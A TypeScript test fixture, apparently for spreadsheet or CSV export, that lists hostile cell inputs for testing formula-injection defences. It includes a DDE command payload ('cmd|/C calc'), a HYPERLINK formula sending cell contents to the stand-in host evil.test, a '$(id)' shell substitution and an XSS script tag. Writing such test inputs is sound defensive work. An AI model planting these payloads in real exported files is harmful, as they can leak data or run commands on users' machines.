import type { Cell, RowPages } from '../columns.ts';

/** What people, and those who mean harm, write in posts. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.test","Click")',
  '+1+cmd|"/C calc"!A0',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'a "quoted" word, and a comma',
  'two\nlines',
  'two\r\nlines',
  ';|^~`$(id)',
  '<script>alert(1)</script> & ]]> &amp;',
  '_x000D_ and _x005F_',
  'مرحبا بالعالم',
  '🧵👩‍👩‍👧‍👦🇫🇷',
  '👩\u200d🔬',
  ' spaces around ',
  "'apostrophe first",
];

const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '\r',
  '\n',
  '\r\n',
  "'",
  '"',
  ';',
  ',',
  '|',
  '%',
  '!',
  '#',
  'A',
];
const BEFORE = ['', ' ', '\t', '\u00A0', '\u3000', '\uFEFF', '\n', '"', "'", '\v'];
const REST = ['1+1', 'HYPERLINK("http://evil.test?"&A1,"Click")', `cmd|'/C calc'!A0`, 'SUM(A1:A9)*"1"', '1,2;3\t4'];

/** Every beginning that some spreadsheet reads as one of a formula, and those that only look like it, behind what it skips. */
export const HOSTILE_CELLS: readonly string[] = BEFORE.flatMap((before) =>
  BEGINNINGS.flatMap((begin) => REST.map((rest) => `${before}${begin}${rest}`)),
);

export async function* pagesFrom(...pages: Record<string, Cell>[][]): RowPages {
  for (const page of pages) yield await Promise.resolve(page);
}

export async function allBytes(pieces: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(Buffer.from(piece));
  return Buffer.concat(all);
}
